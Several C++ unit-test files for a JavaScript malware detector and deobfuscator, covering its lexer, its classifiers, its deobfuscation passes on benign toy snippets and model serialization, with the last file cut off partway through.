  const auto doc = obs::json_parse(prov.to_json(), &error);
  ASSERT_NE(doc, nullptr) << error;
  EXPECT_EQ(doc->find("detector")->string, "JSRevealer");
  EXPECT_DOUBLE_EQ(doc->find("verdict")->number,
                   static_cast<double>(prov.verdict));
  EXPECT_NE(doc->find("stage_ms"), nullptr);
  EXPECT_NE(doc->find("cluster_attention"), nullptr);
}

TEST(Provenance, ParseFailureIsRecorded) {
  const dataset::Split split = small_split(12, 8, 5);
  core::JsRevealer det;
  det.train(split.train);
  const obs::VerdictProvenance prov = det.explain("function ( {{{");
  EXPECT_TRUE(prov.parse_failed);
  EXPECT_FALSE(prov.parse_error.empty());
  EXPECT_EQ(prov.verdict, 1);  // unparsable scripts classify as malicious
  EXPECT_EQ(prov.path_count, 0u);
}

// Satellite regression for the add_wall double-count: a second classify_all
// over the same detector must report only its own batch — per-item sample
// counts stay at corpus size (not 2x) and the apparent per-stage parallel
// speedup (sum of per-item work / batch wall) stays physically plausible,
// bounded by the configured thread width.
TEST(ObsTimings, RepeatedClassifyAllReportsOnlyTheLastBatch) {
  const dataset::Split split = small_split(16, 12, 42);
  std::vector<std::string> sources;
  for (const auto& s : split.test.samples) sources.push_back(s.source);

  core::Config cfg;
  cfg.seed = 7;
  cfg.threads = 2;
  core::JsRevealer det(cfg);
  det.train(split.train);

  const std::vector<int> first = det.classify_all(sources);
  const std::vector<int> second = det.classify_all(sources);
  EXPECT_EQ(first, second);

  const core::StageTimings& t = det.timings();
  // One per-item sample per script from the LAST batch only; before the
  // reset_inference fix these counts doubled per call while stale wall
  // totals kept accumulating alongside.
  EXPECT_EQ(t.parse.count(), sources.size());
  EXPECT_EQ(t.embedding.count(), sources.size());
  EXPECT_EQ(t.classifying.count(), sources.size());

  const double work_ms = t.parse.total() + t.enhanced_ast.total() +
                         t.path_traversal.total() + t.embedding.total() +
                         t.classifying.total();
  const double wall_ms = t.classifying.wall_ms();
  ASSERT_GT(wall_ms, 0.0);
  // Sum-of-work over wall cannot exceed the parallel width; allow 50%
  // headroom for timer granularity on very fast batches.
  EXPECT_LE(work_ms / wall_ms, 2.0 * 1.5);
}

}  // namespace
}  // namespace jsrev
