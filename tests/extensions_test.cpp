// Tests for the extension components: multiclass forest, cluster-quality
// criteria (silhouette / gap statistic), the malware family classifier
// (the paper's future-work item), and the feature-design ablation flags.
#include <gtest/gtest.h>

#include <set>

#include "core/family_classifier.h"
#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "ml/cluster_quality.h"
#include "ml/multiclass_forest.h"
#include "util/rng.h"

namespace jsrev {
namespace {

// Three well-separated blobs for multiclass tests.
struct MultiBlobs {
  ml::Matrix x;
  std::vector<int> y;
};

MultiBlobs make_blobs3(std::size_t per_class, std::uint64_t seed) {
  Rng rng(seed);
  MultiBlobs b;
  const std::size_t d = 4;
  b.x = ml::Matrix(per_class * 3, d);
  b.y.resize(per_class * 3);
  for (std::size_t i = 0; i < per_class * 3; ++i) {
    const int label = static_cast<int>(i / per_class);
    b.y[i] = label;
    for (std::size_t j = 0; j < d; ++j) {
      b.x(i, j) = rng.normal() + label * 8.0;
    }
  }
  return b;
}

TEST(MulticlassTree, SeparatesThreeBlobs) {
  const MultiBlobs b = make_blobs3(40, 1);
  ml::MulticlassDecisionTree tree;
  tree.fit(b.x, b.y);
  int correct = 0;
  for (std::size_t i = 0; i < b.x.rows(); ++i) {
    correct += tree.predict(b.x.row(i)) == b.y[i];
  }
  EXPECT_GE(correct, static_cast<int>(b.x.rows()) - 2);
}

TEST(MulticlassTree, DistributionSumsToOne) {
  const MultiBlobs b = make_blobs3(30, 2);
  ml::MulticlassDecisionTree tree;
  tree.fit(b.x, b.y);
  const auto& dist = tree.predict_distribution(b.x.row(0));
  ASSERT_EQ(dist.size(), 3u);
  double sum = 0;
  for (const double v : dist) sum += v;
  EXPECT_NEAR(sum, 1.0, 1e-9);
}

TEST(MulticlassForest, SeparatesThreeBlobs) {
  const MultiBlobs train = make_blobs3(50, 3);
  const MultiBlobs test = make_blobs3(20, 4);
  ml::MulticlassRandomForest forest;
  forest.fit(train.x, train.y);
  EXPECT_EQ(forest.n_classes(), 3);
  int correct = 0;
  for (std::size_t i = 0; i < test.x.rows(); ++i) {
    correct += forest.predict(test.x.row(i)) == test.y[i];
  }
  EXPECT_GE(static_cast<double>(correct) / test.x.rows(), 0.95);
}

TEST(MulticlassForest, SingleClassDegenerates) {
  ml::Matrix x(8, 2);
  std::vector<int> y(8, 0);
  Rng rng(5);
  for (auto& v : x.data()) v = rng.normal();
  ml::MulticlassRandomForest forest;
  forest.fit(x, y);
  EXPECT_EQ(forest.predict(x.row(0)), 0);
}

TEST(ClusterQuality, SilhouetteHighForSeparatedClusters) {
  const MultiBlobs b = make_blobs3(30, 6);
  ml::KMeansConfig cfg;
  cfg.k = 3;
  const ml::Clustering c = ml::bisecting_kmeans(b.x, cfg);
  EXPECT_GT(ml::silhouette_score(b.x, c), 0.6);
}

TEST(ClusterQuality, SilhouetteLowForOverclustered) {
  const MultiBlobs b = make_blobs3(30, 7);
  ml::KMeansConfig good, bad;
  good.k = 3;
  bad.k = 12;
  const double s_good =
      ml::silhouette_score(b.x, ml::bisecting_kmeans(b.x, good));
  const double s_bad =
      ml::silhouette_score(b.x, ml::bisecting_kmeans(b.x, bad));
  EXPECT_GT(s_good, s_bad);
}

TEST(ClusterQuality, GapStatisticPositiveForStructuredData) {
  const MultiBlobs b = make_blobs3(30, 8);
  ml::KMeansConfig cfg;
  cfg.k = 3;
  const ml::Clustering c = ml::bisecting_kmeans(b.x, cfg);
  const ml::GapResult g = ml::gap_statistic(b.x, c);
  // Clustered data should have a clearly positive gap vs uniform noise.
  EXPECT_GT(g.gap, 0.0);
  EXPECT_GT(g.sigma, 0.0);
}

TEST(ClusterQuality, SelectKFindsTrueKBySilhouette) {
  const MultiBlobs b = make_blobs3(40, 9);
  EXPECT_EQ(ml::select_k(b.x, 2, 8, /*criterion=*/1), 3);
}

TEST(ClusterQuality, SelectKElbowAndGapInRange) {
  const MultiBlobs b = make_blobs3(40, 10);
  for (const int criterion : {0, 2}) {
    const int k = ml::select_k(b.x, 2, 8, criterion);
    EXPECT_GE(k, 2);
    EXPECT_LE(k, 8);
  }
}

// --- pipeline-level extensions --------------------------------------------

class FamilyFixture : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    dataset::GeneratorConfig gc;
    gc.seed = 21;
    gc.benign_count = 100;
    gc.malicious_count = 160;
    corpus_ = new dataset::Corpus(dataset::generate_corpus(gc));

    core::Config cfg;
    cfg.embed_epochs = 10;
    cfg.cluster_sample_per_class = 800;
    detector_ = new core::JsRevealer(cfg);
    detector_->train(*corpus_);

    classifier_ = new core::FamilyClassifier();
    trained_on_ = classifier_->train(*detector_, *corpus_);
  }

  static void TearDownTestSuite() {
    delete classifier_;
    delete detector_;
    delete corpus_;
    classifier_ = nullptr;
    detector_ = nullptr;
    corpus_ = nullptr;
  }

  static dataset::Corpus* corpus_;
  static core::JsRevealer* detector_;
  static core::FamilyClassifier* classifier_;
  static std::size_t trained_on_;
};

dataset::Corpus* FamilyFixture::corpus_ = nullptr;
core::JsRevealer* FamilyFixture::detector_ = nullptr;
core::FamilyClassifier* FamilyFixture::classifier_ = nullptr;
std::size_t FamilyFixture::trained_on_ = 0;

TEST_F(FamilyFixture, TrainsOnAllMaliciousSamples) {
  EXPECT_GT(trained_on_, 100u);
  EXPECT_EQ(classifier_->families().size(), 6u);
}

TEST_F(FamilyFixture, BetterThanChanceOnTrainingDistribution) {
  // 6 families -> chance is ~17%; the cluster features must carry family
  // signal well beyond that.
  EXPECT_GT(classifier_->evaluate(*detector_, *corpus_), 0.5);
}

TEST_F(FamilyFixture, ConfusionRowsNormalized) {
  const auto m = classifier_->confusion(*detector_, *corpus_);
  ASSERT_EQ(m.size(), classifier_->families().size());
  for (const auto& row : m) {
    double sum = 0.0;
    for (const double v : row) sum += v;
    EXPECT_TRUE(sum == 0.0 || std::abs(sum - 1.0) < 1e-9);
  }
}

TEST_F(FamilyFixture, ClassifyReturnsKnownFamily) {
  Rng rng(22);
  std::string family;
  const std::string src = dataset::generate_malicious(rng, &family);
  const std::string predicted = classifier_->classify(*detector_, src);
  const auto& fams = classifier_->families();
  EXPECT_NE(std::find(fams.begin(), fams.end(), predicted), fams.end());
}

TEST(FamilyClassifier, UntrainedReturnsEmpty) {
  core::FamilyClassifier fc;
  core::Config cfg;
  cfg.embed_epochs = 2;
  core::JsRevealer det(cfg);
  EXPECT_TRUE(fc.classify(det, "var x = 1;").empty());
}

TEST(AblationFlags, BinaryFeaturesAndNoOutlierTrain) {
  dataset::GeneratorConfig gc;
  gc.seed = 23;
  gc.benign_count = 60;
  gc.malicious_count = 60;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  Rng rng(24);
  const dataset::Split split = dataset::split_corpus(corpus, 42, 42, rng);

  for (const bool binary : {true, false}) {
    core::Config cfg;
    cfg.binary_cluster_features = binary;
    cfg.skip_outlier_removal = binary;  // exercise both flags together
    cfg.embed_epochs = 6;
    cfg.cluster_sample_per_class = 500;
    core::JsRevealer det(cfg);
    det.train(split.train);
    const ml::Metrics m = det.evaluate(split.test);
    EXPECT_GT(m.accuracy, 0.6) << "binary=" << binary;
  }
}

}  // namespace
}  // namespace jsrev
