#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "js/lexer.h"

namespace jsrev::js {
namespace {

std::vector<Token> lex(std::string_view src) {
  Lexer lexer(src);
  return lexer.tokenize();
}

TEST(Lexer, EmptyInput) {
  const auto toks = lex("");
  ASSERT_EQ(toks.size(), 1u);
  EXPECT_EQ(toks[0].type, TokenType::kEof);
}

TEST(Lexer, Identifiers) {
  const auto toks = lex("foo _bar $baz a1");
  ASSERT_EQ(toks.size(), 5u);
  for (int i = 0; i < 4; ++i) {
    EXPECT_EQ(toks[i].type, TokenType::kIdentifier);
  }
  EXPECT_EQ(toks[0].value, "foo");
  EXPECT_EQ(toks[1].value, "_bar");
  EXPECT_EQ(toks[2].value, "$baz");
}

TEST(Lexer, Keywords) {
  const auto toks = lex("var function if while return");
  for (int i = 0; i < 5; ++i) {
    EXPECT_EQ(toks[i].type, TokenType::kKeyword) << toks[i].value;
  }
}

TEST(Lexer, BooleanAndNull) {
  const auto toks = lex("true false null");
  EXPECT_EQ(toks[0].type, TokenType::kBooleanLiteral);
  EXPECT_EQ(toks[1].type, TokenType::kBooleanLiteral);
  EXPECT_EQ(toks[2].type, TokenType::kNullLiteral);
}

TEST(Lexer, DecimalNumbers) {
  const auto toks = lex("0 42 3.14 .5 1e3 2.5e-2");
  EXPECT_DOUBLE_EQ(toks[0].numeric_value, 0);
  EXPECT_DOUBLE_EQ(toks[1].numeric_value, 42);
  EXPECT_DOUBLE_EQ(toks[2].numeric_value, 3.14);
  EXPECT_DOUBLE_EQ(toks[3].numeric_value, 0.5);
  EXPECT_DOUBLE_EQ(toks[4].numeric_value, 1000);
  EXPECT_DOUBLE_EQ(toks[5].numeric_value, 0.025);
}

TEST(Lexer, HexBinaryOctalNumbers) {
  const auto toks = lex("0xff 0b101 0o17");
  EXPECT_DOUBLE_EQ(toks[0].numeric_value, 255);
  EXPECT_DOUBLE_EQ(toks[1].numeric_value, 5);
  EXPECT_DOUBLE_EQ(toks[2].numeric_value, 15);
}

TEST(Lexer, NumberFollowedByDotCall) {
  // `1..toString()` style is rare; but `x.e1` must not lex as exponent.
  const auto toks = lex("x.e1");
  EXPECT_EQ(toks[0].type, TokenType::kIdentifier);
  EXPECT_EQ(toks[1].value, ".");
  EXPECT_EQ(toks[2].value, "e1");
}

TEST(Lexer, StringEscapes) {
  const auto toks = lex(R"JS("a\nb" 'c\td' "q\"x" "\x41" "B")JS");
  EXPECT_EQ(toks[0].string_value, "a\nb");
  EXPECT_EQ(toks[1].string_value, "c\td");
  EXPECT_EQ(toks[2].string_value, "q\"x");
  EXPECT_EQ(toks[3].string_value, "A");
  EXPECT_EQ(toks[4].string_value, "B");
}

TEST(Lexer, UnicodeEscapeNonAscii) {
  const auto toks = lex(R"("中")");
  EXPECT_EQ(toks[0].string_value, "\xe4\xb8\xad");  // UTF-8 for U+4E2D
}

TEST(Lexer, SurrogatePairCombinesToOneCodePoint) {
  // \uD83D\uDE00 is U+1F600 (the emoji grinning face): one astral code
  // point, 4-byte UTF-8 — not two 3-byte CESU-8 sequences.
  const auto toks = lex(R"("\uD83D\uDE00")");
  EXPECT_EQ(toks[0].string_value, "\xf0\x9f\x98\x80");
  // Case-insensitive hex digits pair up too.
  const auto lower = lex(R"("\ud83d\ude00")");
  EXPECT_EQ(lower[0].string_value, "\xf0\x9f\x98\x80");
  // U+10000, the first astral code point (minimal pair).
  const auto min_pair = lex(R"("\uD800\uDC00")");
  EXPECT_EQ(min_pair[0].string_value, "\xf0\x90\x80\x80");
  // U+10FFFF, the last one (maximal pair).
  const auto max_pair = lex(R"("\uDBFF\uDFFF")");
  EXPECT_EQ(max_pair[0].string_value, "\xf4\x8f\xbf\xbf");
}

TEST(Lexer, LoneSurrogatesStayCesu8) {
  // A high surrogate not followed by a low one (and vice versa) keeps the
  // pre-pairing behavior: each escape encodes independently as 3 bytes.
  const auto high = lex(R"("\uD83Dx")");
  EXPECT_EQ(high[0].string_value, "\xed\xa0\xbdx");
  const auto low = lex(R"("\uDE00")");
  EXPECT_EQ(low[0].string_value, "\xed\xb8\x80");
  // High followed by a non-surrogate escape: no pairing either.
  const auto high_bmp = lex(R"("\uD83DA")");
  EXPECT_EQ(high_bmp[0].string_value, "\xed\xa0\xbd" "A");
  // Two high surrogates in a row: both stay unpaired.
  const auto two_high = lex(R"("\uD83D\uD83D")");
  EXPECT_EQ(two_high[0].string_value, "\xed\xa0\xbd\xed\xa0\xbd");
}

TEST(Lexer, TemplateLiteral) {
  const auto toks = lex("`hello world`");
  EXPECT_EQ(toks[0].type, TokenType::kTemplateString);
  EXPECT_EQ(toks[0].string_value, "hello world");
}

TEST(Lexer, StringLineContinuations) {
  // \<LF>, \<CR>, and \<CR><LF> contribute nothing to the value, and the
  // line counter advances exactly once per continuation.
  const auto lf = lex("\"a\\\nb\" x");
  EXPECT_EQ(lf[0].string_value, "ab");
  EXPECT_EQ(lf[1].line, 2);
  const auto cr = lex("\"a\\\rb\" x");
  EXPECT_EQ(cr[0].string_value, "ab");
  EXPECT_EQ(cr[1].line, 2);
  const auto crlf = lex("\"a\\\r\nb\" x");
  EXPECT_EQ(crlf[0].string_value, "ab");
  EXPECT_EQ(crlf[1].line, 2);
}

TEST(Lexer, NulEscapeInString) {
  const auto toks = lex(R"("\0")");
  EXPECT_EQ(toks[0].string_value, std::string(1, '\0'));
  // `\0` followed by a decimal digit is a legacy octal escape; reject it
  // rather than silently decoding something that will not round-trip.
  EXPECT_THROW(lex(R"("\01")"), LexError);
  EXPECT_THROW(lex(R"("\08")"), LexError);
}

TEST(Lexer, ParseLimitsBoundSourceAndTokens) {
  ParseLimits tiny;
  tiny.max_source_bytes = 4;
  EXPECT_THROW(Lexer("var x = 1;", tiny).tokenize(), LexError);

  ParseLimits few;
  few.max_token_count = 3;
  EXPECT_THROW(Lexer("a b c d e f", few).tokenize(), LexError);

  // The defaults are generous: ordinary code is unaffected.
  EXPECT_NO_THROW(Lexer("var ok = 1;").tokenize());
}

TEST(Lexer, UnterminatedStringThrows) {
  EXPECT_THROW(lex("\"abc"), LexError);
}

TEST(Lexer, UnterminatedCommentThrows) {
  EXPECT_THROW(lex("/* abc"), LexError);
}

TEST(Lexer, LineComment) {
  const auto toks = lex("a // comment\nb");
  EXPECT_EQ(toks[0].value, "a");
  EXPECT_EQ(toks[1].value, "b");
  EXPECT_TRUE(toks[1].newline_before);
}

TEST(Lexer, BlockCommentTracksNewline) {
  const auto toks = lex("a /* x\ny */ b");
  EXPECT_TRUE(toks[1].newline_before);
}

TEST(Lexer, RegexAfterOperator) {
  const auto toks = lex("x = /ab+c/gi;");
  EXPECT_EQ(toks[2].type, TokenType::kRegexLiteral);
  EXPECT_EQ(toks[2].value, "/ab+c/gi");
}

TEST(Lexer, DivisionAfterIdentifier) {
  const auto toks = lex("a / b");
  EXPECT_EQ(toks[1].type, TokenType::kPunctuator);
  EXPECT_EQ(toks[1].value, "/");
}

TEST(Lexer, DivisionAfterCloseParen) {
  const auto toks = lex("(a) / b");
  EXPECT_EQ(toks[3].value, "/");
  EXPECT_EQ(toks[3].type, TokenType::kPunctuator);
}

TEST(Lexer, RegexWithCharClassSlash) {
  const auto toks = lex("x = /[/]/;");
  EXPECT_EQ(toks[2].type, TokenType::kRegexLiteral);
}

TEST(Lexer, RegexAfterReturn) {
  const auto toks = lex("return /x/;");
  EXPECT_EQ(toks[1].type, TokenType::kRegexLiteral);
}

TEST(Lexer, MultiCharPunctuators) {
  const auto toks = lex("=== !== >>> <<= && || ++ -- => ...");
  const std::vector<std::string> expect = {"===", "!==", ">>>", "<<=", "&&",
                                           "||",  "++",  "--",  "=>",  "..."};
  for (std::size_t i = 0; i < expect.size(); ++i) {
    EXPECT_EQ(toks[i].value, expect[i]);
  }
}

TEST(Lexer, LineNumbersTracked) {
  const auto toks = lex("a\nb\n\nc");
  EXPECT_EQ(toks[0].line, 1u);
  EXPECT_EQ(toks[1].line, 2u);
  EXPECT_EQ(toks[2].line, 4u);
}

TEST(Lexer, NewlineBeforeFlag) {
  const auto toks = lex("a b\nc");
  EXPECT_FALSE(toks[1].newline_before);
  EXPECT_TRUE(toks[2].newline_before);
}

TEST(Lexer, UnexpectedCharacterThrows) {
  EXPECT_THROW(lex("a # b"), LexError);
}

}  // namespace
}  // namespace jsrev::js
