// Unit and edge-case tests for the src/deob passes: printer-round-trip
// corner cases of constant folding (-0, Infinity), pattern bail-outs
// (decoder read before rotation, free break/continue inside flattened case
// bodies), and pinned per-pass normal forms (fingerprint regressions).
#include <gtest/gtest.h>

#include <memory>
#include <string>

#include "deob/deob.h"
#include "js/ast_compare.h"
#include "js/parser.h"
#include "js/printer.h"

namespace jsrev::deob {
namespace {

struct PassRun {
  int changes = 0;
  std::string printed;
  std::uint64_t fingerprint = 0;
};

/// Parses `source`, runs one pass over it once, and reports the result.
PassRun run_pass(std::unique_ptr<Pass> pass, const std::string& source) {
  js::Ast ast = js::parse(source);
  js::finalize_tree(ast.root);
  PassRun out;
  out.changes = pass->run(ast);
  out.printed = js::print(ast.root, js::PrintStyle::kPretty);
  out.fingerprint = js::ast_fingerprint(ast.root);
  return out;
}

std::uint64_t fingerprint_of(const std::string& source) {
  js::Ast ast = js::parse(source);
  js::finalize_tree(ast.root);
  return js::ast_fingerprint(ast.root);
}

/// Pinned regression: one pass applied to `input` must land exactly on the
/// tree `expected` parses to. Comparing fingerprints of both sides keeps the
/// pin stable across hash-function changes while still failing on any
/// structural drift.
void expect_pass_normal_form(std::unique_ptr<Pass> pass,
                             const std::string& input,
                             const std::string& expected) {
  const PassRun run = run_pass(std::move(pass), input);
  EXPECT_GT(run.changes, 0) << input;
  EXPECT_EQ(run.fingerprint, fingerprint_of(expected))
      << "input:\n" << input << "\ngot:\n" << run.printed
      << "\nexpected:\n" << expected;
}

// ---------------------------------------------------------------------------
// fold-constants corner cases.
// ---------------------------------------------------------------------------

TEST(DeobFold, NegativeZeroIsNeverFolded) {
  // 0 * -1 evaluates to -0, which no numeric literal spells; folding it to 0
  // would change Object.is/1/x semantics, so the expression must survive.
  const PassRun run =
      run_pass(jsrev::deob::make_fold_constants_pass(), "f(0 * -1);");
  EXPECT_EQ(run.changes, 0) << run.printed;
  EXPECT_NE(run.printed.find("0 * -1"), std::string::npos) << run.printed;
}

TEST(DeobFold, InfinityFoldsToRoundTrippingLiteral) {
  // 1 / 0 folds to an infinite number literal, which the printer spells
  // `1e999` (the identifier `Infinity` would not reparse as a literal).
  const PassRun pos =
      run_pass(jsrev::deob::make_fold_constants_pass(), "f(1 / 0);");
  EXPECT_GT(pos.changes, 0);
  EXPECT_NE(pos.printed.find("1e999"), std::string::npos) << pos.printed;

  const PassRun neg =
      run_pass(jsrev::deob::make_fold_constants_pass(), "f(-1 / 0);");
  EXPECT_GT(neg.changes, 0);
  EXPECT_NE(neg.printed.find("-1e999"), std::string::npos) << neg.printed;
}

TEST(DeobFold, NanIsNeverFolded) {
  const PassRun run =
      run_pass(jsrev::deob::make_fold_constants_pass(), "f(0 / 0);");
  EXPECT_EQ(run.changes, 0) << run.printed;
}

// ---------------------------------------------------------------------------
// inline-indirection: decoder/rotation ordering.
// ---------------------------------------------------------------------------

TEST(DeobInline, DecoderInlinesAfterRotation) {
  const std::string input =
      "var A = [\"alpha\", \"beta\", \"gamma\"];\n"
      "for (var k = 0; k < 1; k++) A.push(A.shift());\n"
      "function g(i) { return A[i - 1]; }\n"
      "use(g(1), g(2));\n";
  const PassRun run =
      run_pass(jsrev::deob::make_inline_indirection_pass(), input);
  // Rotation count 1 over 3 elements: g(1) -> values[1], g(2) -> values[2].
  EXPECT_EQ(run.changes, 2) << run.printed;
  EXPECT_NE(run.printed.find("\"beta\""), std::string::npos) << run.printed;
  EXPECT_NE(run.printed.find("\"gamma\""), std::string::npos) << run.printed;
  // The rotation loop's only observable effect is gone with the calls.
  EXPECT_EQ(run.printed.find("push"), std::string::npos) << run.printed;
}

TEST(DeobInline, DecoderReferencedBeforeRotationBailsOut) {
  // The getter call executes before the rotation loop has run, so a static
  // decode against the rotated table would be wrong — the whole pattern must
  // be left untouched.
  const std::string input =
      "var A = [\"alpha\", \"beta\"];\n"
      "function g(i) { return A[i - 0]; }\n"
      "use(g(0));\n"
      "for (var k = 0; k < 1; k++) A.push(A.shift());\n";
  const PassRun run =
      run_pass(jsrev::deob::make_inline_indirection_pass(), input);
  EXPECT_EQ(run.changes, 0) << run.printed;
  EXPECT_NE(run.printed.find("g(0)"), std::string::npos) << run.printed;
  EXPECT_NE(run.printed.find("push"), std::string::npos) << run.printed;
}

// ---------------------------------------------------------------------------
// unflatten: dispatcher matching and jump-safety bail-out.
// ---------------------------------------------------------------------------

TEST(DeobUnflatten, ReserializesDispatcherInOrder) {
  const std::string input =
      "var o = \"b|a\".split(\"|\"), c = 0;\n"
      "while (true) {\n"
      "  switch (o[c++]) {\n"
      "    case \"a\": f(1); continue;\n"
      "    case \"b\": f(2); continue;\n"
      "  }\n"
      "  break;\n"
      "}\n";
  const PassRun run = run_pass(jsrev::deob::make_unflatten_pass(), input);
  EXPECT_EQ(run.changes, 1) << run.printed;
  EXPECT_EQ(run.printed.find("switch"), std::string::npos) << run.printed;
  // Order string "b|a": case "b" body first, then case "a".
  EXPECT_LT(run.printed.find("f(2)"), run.printed.find("f(1)"))
      << run.printed;
  EXPECT_EQ(run.fingerprint, fingerprint_of("f(2);\nf(1);\n"));
}

TEST(DeobUnflatten, BailsOnFreeBreakInCaseBody) {
  // The bare `break` in case "b" would rebind from the dispatcher switch to
  // whatever encloses the unrolled statements — not unrollable.
  const std::string input =
      "var o = \"b|a\".split(\"|\"), c = 0;\n"
      "while (true) {\n"
      "  switch (o[c++]) {\n"
      "    case \"a\": f(1); continue;\n"
      "    case \"b\": if (g()) break; f(2); continue;\n"
      "  }\n"
      "  break;\n"
      "}\n";
  const PassRun run = run_pass(jsrev::deob::make_unflatten_pass(), input);
  EXPECT_EQ(run.changes, 0) << run.printed;
  EXPECT_NE(run.printed.find("switch"), std::string::npos) << run.printed;
}

TEST(DeobUnflatten, LoopInsideCaseBodyKeepsItsOwnJumps) {
  // break/continue nested under the case body's own loop are not free — the
  // dispatcher still unrolls.
  const std::string input =
      "var o = \"a|b\".split(\"|\"), c = 0;\n"
      "while (true) {\n"
      "  switch (o[c++]) {\n"
      "    case \"a\":\n"
      "      for (var i = 0; i < 3; i++) { if (h(i)) break; f(i); }\n"
      "      continue;\n"
      "    case \"b\": f(9); continue;\n"
      "  }\n"
      "  break;\n"
      "}\n";
  const PassRun run = run_pass(jsrev::deob::make_unflatten_pass(), input);
  EXPECT_EQ(run.changes, 1) << run.printed;
  EXPECT_EQ(run.printed.find("switch"), std::string::npos) << run.printed;
}

// ---------------------------------------------------------------------------
// Pinned per-pass normal forms (fingerprint regressions).
// ---------------------------------------------------------------------------

TEST(DeobFold, AtobFoldsOnlyStrictBase64) {
  // Valid canonical base64 folds to the decoded string ("aGk=" is "hi").
  expect_pass_normal_form(jsrev::deob::make_fold_constants_pass(),
                          "f(atob(\"aGk=\"));", "f(\"hi\");");

  // atob() on malformed input THROWS at runtime (InvalidCharacterError);
  // folding it to a string would change program behavior, so the pass must
  // leave every call intact: misplaced padding, a lone final char, and a
  // final quantum with nonzero stray bits ("QR==" — 'R' leaves 0b0001).
  for (const std::string bad : {"AB==CD", "TWFuT", "QR==", "T===", "a b"}) {
    const PassRun run = run_pass(jsrev::deob::make_fold_constants_pass(),
                                 "f(atob(\"" + bad + "\"));");
    EXPECT_NE(run.printed.find("atob"), std::string::npos)
        << "folded atob(\"" << bad << "\") to:\n" << run.printed;
  }
}

TEST(DeobInline, DecoderTableSkipsMalformedEntries) {
  // A decoder table mixing valid and malformed base64: the valid entry
  // inlines, the malformed one ("QR==" has nonzero stray bits — the
  // script's atob would throw there at runtime) keeps its call site.
  const std::string source =
      "var A = [\"aGk=\", \"QR==\"];\n"
      "function g(i) { return atob(A[i - 0]); }\n"
      "f(g(0));\n"
      "h(g(1));\n";
  const PassRun run =
      run_pass(jsrev::deob::make_inline_indirection_pass(), source);
  EXPECT_EQ(run.changes, 1) << run.printed;
  EXPECT_NE(run.printed.find("\"hi\""), std::string::npos) << run.printed;
  EXPECT_NE(run.printed.find("g(1)"), std::string::npos) << run.printed;
}

TEST(DeobInline, MalformedEntryKeepsRotationAlive) {
  // One undecodable entry leaves a live call site behind, so the rotation
  // loop (which that site still observes) must NOT be pruned.
  const std::string source =
      "var A = [\"aGk=\", \"QR==\", \"eW8=\"];\n"
      "for (var k = 0; k < 1; k++) A.push(A.shift());\n"
      "function g(i) { return atob(A[i - 0]); }\n"
      "use(g(0), g(1), g(2));\n";
  const PassRun run =
      run_pass(jsrev::deob::make_inline_indirection_pass(), source);
  // Rotation 1 over 3: g(0)->"QR==" (skipped), g(1)->"eW8=" ("yo"),
  // g(2)->"aGk=" ("hi").
  EXPECT_EQ(run.changes, 2) << run.printed;
  EXPECT_NE(run.printed.find("\"yo\""), std::string::npos) << run.printed;
  EXPECT_NE(run.printed.find("\"hi\""), std::string::npos) << run.printed;
  EXPECT_NE(run.printed.find("g(0)"), std::string::npos) << run.printed;
  EXPECT_NE(run.printed.find("push"), std::string::npos) << run.printed;
}

TEST(DeobNormalForm, FoldConstants) {
  expect_pass_normal_form(
      jsrev::deob::make_fold_constants_pass(),
      "f(1 + 2 * 3, \"a\" + \"b\", String.fromCharCode(104, 105), x[\"y\"]);",
      "f(7, \"ab\", \"hi\", x.y);");
}

TEST(DeobNormalForm, InlineIndirection) {
  expect_pass_normal_form(jsrev::deob::make_inline_indirection_pass(),
                          "var t = g();\nh(t);\nf.apply(null, [1, 2]);",
                          "h(g());\nf(1, 2);");
}

TEST(DeobNormalForm, PruneDead) {
  expect_pass_normal_form(jsrev::deob::make_prune_dead_pass(),
                          "if (true) f(1); else f(2);\nwhile (false) g();",
                          "f(1);");
}

TEST(DeobNormalForm, Canonicalize) {
  expect_pass_normal_form(jsrev::deob::make_canonicalize_pass(),
                          "var a;\na = 1;\nf(a);",
                          "var v0 = 1;\nf(v0);");
}

TEST(DeobNormalForm, FullPipelineSmokeAndIdempotence) {
  const std::string input =
      "var a = 1 + 2;\n"
      "if (false) { var junk = \"de\" + \"ad\"; }\n"
      "console.log(\"h\" + \"i\", a);\n";
  const auto once = jsrev::deob::deobfuscate_source(input);
  ASSERT_TRUE(once.parse_ok);
  EXPECT_TRUE(once.pipeline.reached_fixpoint);
  EXPECT_EQ(once.fingerprint_after,
            fingerprint_of("console.log(\"hi\", 3);"));
  const auto twice = jsrev::deob::deobfuscate_source(once.source);
  ASSERT_TRUE(twice.parse_ok);
  EXPECT_EQ(twice.pipeline.total_changes, 0) << twice.source;
  EXPECT_EQ(once.fingerprint_after, twice.fingerprint_after);
}

TEST(DeobNormalForm, UnparseableInputIsReturnedVerbatim) {
  const auto r = jsrev::deob::deobfuscate_source("function (");
  EXPECT_FALSE(r.parse_ok);
  EXPECT_FALSE(r.error.empty());
  EXPECT_EQ(r.source, "function (");
}

}  // namespace
}  // namespace jsrev::deob
