// Tests for the JSRM v3 model artifact: the trainer must emit byte-identical
// artifacts at any parallel width, a mapped ModelView must reproduce the
// writing detector bit-for-bit (verdicts and feature vectors) across the
// whole obfuscated evaluation grid, legacy stream models must convert to the
// same bytes, and malformed artifacts must fail with ser::ModelFormatError —
// never a crash or a silently different verdict.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdint>
#include <sstream>
#include <string>
#include <vector>

#include "core/jsrevealer.h"
#include "core/model_view.h"
#include "dataset/generator.h"
#include "obfuscators/obfuscator.h"
#include "util/serialize.h"

namespace jsrev {
namespace {

core::Config small_config(std::size_t threads) {
  core::Config cfg;
  cfg.seed = 91;
  cfg.threads = threads;
  cfg.embed_epochs = 4;
  cfg.cluster_sample_per_class = 400;
  return cfg;
}

dataset::Corpus train_corpus() {
  dataset::GeneratorConfig gc;
  gc.seed = 91;
  gc.benign_count = 40;
  gc.malicious_count = 40;
  return dataset::generate_corpus(gc);
}

/// >= 200 generator scripts, each additionally pushed through all four
/// obfuscator models — the robustness grid the paper evaluates against.
std::vector<std::string> evaluation_scripts() {
  dataset::GeneratorConfig gc;
  gc.seed = 1907;
  gc.benign_count = 100;
  gc.malicious_count = 100;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  std::vector<std::string> scripts;
  scripts.reserve(corpus.samples.size() * 5);
